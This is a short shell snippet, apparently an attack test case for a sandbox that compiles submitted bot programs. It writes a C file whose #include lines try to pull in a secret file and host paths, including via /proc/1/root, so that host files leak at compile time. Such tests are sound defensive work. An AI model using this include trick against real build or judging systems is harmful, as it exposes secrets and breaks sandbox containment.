# attack: a source that includes what the host can read
# bot: bot.c
printf '#include "%s"\n#include "/var%s"\n#include "/proc/1/root%s"\nint main(void) { return 0; }\n' "$SECRET" "$SHARED" "$SHARED" > bot.c
